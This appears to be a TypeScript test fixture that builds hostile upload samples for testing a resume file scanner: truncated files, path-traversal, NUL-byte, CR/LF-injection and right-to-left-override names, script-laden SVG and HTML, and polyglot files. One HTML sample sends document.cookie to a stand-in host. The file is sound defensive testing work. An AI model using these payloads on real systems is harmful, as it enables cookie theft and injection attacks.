/** Files that are not what they say: empty or cut short, hostile names, other formats and polyglots. */
import { buildDoc, withMacros } from '@test/builders/scan-samples';
import { zipSync } from 'fflate';
import {
  asLatin1,
  contentTypesXml,
  documentXml,
  docx,
  latin1,
  paragraphs,
  relationshipsXml,
  resumeLines,
  resumeText,
  textPdf,
} from './hostile-bytes';
import { accepted, type Expectation, file, type HostileFile, prefixZip, refused, utf8 } from './hostile-file';

/** Zero-byte files, a single byte, and files cut short in the middle of their structure. */
export function emptyAndTruncated(): HostileFile[] {
  const family = 'empty and truncated';
  const pdf = textPdf();
  const word = docx();
  return [
    file(family, 'empty.pdf', new Uint8Array(0), 'zero bytes named as a PDF', refused('low')),
    file(family, 'empty.docx', new Uint8Array(0), 'zero bytes named as a DOCX', refused('low')),
    file(family, 'empty.txt', new Uint8Array(0), 'zero bytes named as text', refused('low')),
    file(family, 'one-byte.pdf', utf8('%'), 'a single byte', refused('low')),
    file(family, 'header-only.pdf', pdf.subarray(0, 60), 'a PDF cut after its catalog', refused('low')),
    file(family, 'truncated.docx', word.subarray(0, word.length >> 1), 'half a DOCX', refused('medium')),
    file(
      family,
      'no-end-record.docx',
      word.subarray(0, word.length - 10),
      'a DOCX missing its end-of-directory record',
      refused('medium'),
    ),
    file(
      family,
      'cut-in-a-character.txt',
      utf8(`${resumeText}José Müller, Zürich — café`).subarray(0, -1),
      'UTF-8 text cut inside a multi-byte character',
      { resume: 'flagged', validate: 'flagged', risk: 'low' },
    ),
  ];
}

/** A valid PDF under names that attack paths, headers or the eye: "../", NUL, CR/LF, right-to-left overrides. */
export function hostileNames(): HostileFile[] {
  const family = 'file names';
  const pdf = textPdf();
  const named = (name: string, why: string, expectation: Expectation, extra: Partial<HostileFile> = {}) =>
    file(family, name, pdf, why, expectation, extra);
  return [
    named('../../etc/passwd.pdf', 'path traversal with slashes', accepted, { storedName: 'passwd.pdf' }),
    named('..\\..\\Windows\\System32\\cv.pdf', 'path traversal with backslashes', accepted, {
      storedName: 'cv.pdf',
    }),
    named('/etc/passwd', 'an absolute path without an extension', refused('low')),
    named('resume.pdf\u0000.exe', 'a NUL byte hiding an .exe extension', refused('low')),
    named('resume\u0000.pdf', 'a NUL byte inside the name', accepted, { storedName: 'resume.pdf' }),
    named(
      'resume\r\nContent-Type: text/html\r\n.pdf',
      'CR/LF (header injection) in an encoded name',
      refused('low'),
    ),
    named('resume\r\n.pdf', 'raw CR/LF breaking the multipart header', refused('low'), { rawName: true }),
    named('cv\u202Efdp.exe', 'a right-to-left override making "cv.exe" read "cvexe.pdf"', refused('low')),
    named('cv\u202Excod.pdf', 'a right-to-left override in a PDF name', accepted, {
      storedName: 'cvxcod.pdf',
    }),
    named('CON.pdf', 'a Windows device name', accepted, { storedName: '_CON.pdf' }),
    named(`${'a'.repeat(5000)}.pdf`, 'a 5,000-character name', accepted),
    named(
      '.pdf',
      'an extension and no name (a hidden file to the file check)',
      {
        resume: 'accepted',
        validate: 'refused',
        risk: 'low',
      },
      { storedName: 'resume.pdf' },
    ),
    named('résumé-名前.pdf', 'a name in other scripts, sent as raw UTF-8 as browsers do', accepted, {
      rawName: true,
      storedName: 'résumé-名前.pdf',
    }),
    named('resume.pdf...   ', 'trailing dots and spaces', accepted),
    named('"; filename="x.pdf', 'quotes trying to close the filename parameter', accepted),
  ];
}

/** Files that claim another type (programs, web pages, images, spreadsheets) and polyglots that are two at once. */
export function disguised(): HostileFile[] {
  const family = 'disguised files';
  const exe = new Uint8Array(4096);
  exe.set(utf8('MZ'), 0);
  exe.set(utf8('This program cannot be run in DOS mode.'), 78);
  const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script><text>${resumeLines[0]}</text></svg>`;
  const html = `<!doctype html><html><body onload="fetch('https://x.example/'+document.cookie)"><script>alert(1)</script><p>${resumeText}</p></body></html>`;
  const spreadsheet = zipSync({
    '[Content_Types].xml': utf8(
      contentTypesXml('', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
    ),
    'xl/workbook.xml': utf8('<workbook/>'),
  });
  const pdfTail = asLatin1(textPdf());
  return [
    file(family, 'program.docx', exe, 'a Windows program renamed .docx', refused('high')),
    file(family, 'program.pdf', exe, 'a Windows program renamed .pdf', refused('high')),
    file(family, 'script.svg.pdf', utf8(svg), 'an SVG image with scripts named .pdf', refused('low')),
    file(family, 'page.pdf', utf8(html), 'a web page with scripts named .pdf', refused('high')),
    file(family, 'page.docx', utf8(html), 'a web page with scripts named .docx', refused('high')),
    file(
      family,
      'rtf-object.docx',
      utf8('{\\rtf1\\ansi\\pard Jane Doe\\par{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}}}'),
      'an RTF with an embedded object named .docx',
      refused('high'),
    ),
    file(family, 'word97.docx', buildDoc(resumeText), 'a Word 97 document named .docx', refused('low')),
    file(family, 'sheet.docx', spreadsheet, 'a spreadsheet named .docx', refused('low')),
    file(
      family,
      'html-prefix-polyglot.pdf',
      latin1(`<html><script>alert(1)</script></html>\n${pdfTail}`),
      'a web page with a script in front of a valid PDF (an HTML/PDF polyglot)',
      refused('high'),
    ),
    file(
      family,
      'pdf-zip-polyglot.pdf',
      prefixZip(textPdf(), withMacros(docx())),
      'a valid PDF that is also a macro-enabled Word archive (a PDF/ZIP polyglot)',
      refused('high'),
    ),
    file(
      family,
      'html-zip-polyglot.docx',
      prefixZip(utf8(html), docx()),
      'a web page with scripts that is also a valid DOCX archive',
      refused('low'),
    ),
    file(
      family,
      'html-first-part.docx',
      zipSync(
        {
          'index.html': [utf8(html), { level: 0 }],
          '[Content_Types].xml': utf8(contentTypesXml()),
          '_rels/.rels': utf8(relationshipsXml([['officeDocument', 'word/document.xml']])),
          'word/document.xml': utf8(documentXml(paragraphs(resumeLines))),
        },
        { level: 6 },
      ),
      'a DOCX whose first, uncompressed part is a web page with scripts',
      { resume: 'accepted', validate: 'accepted', risk: 'low' },
    ),
  ];
}
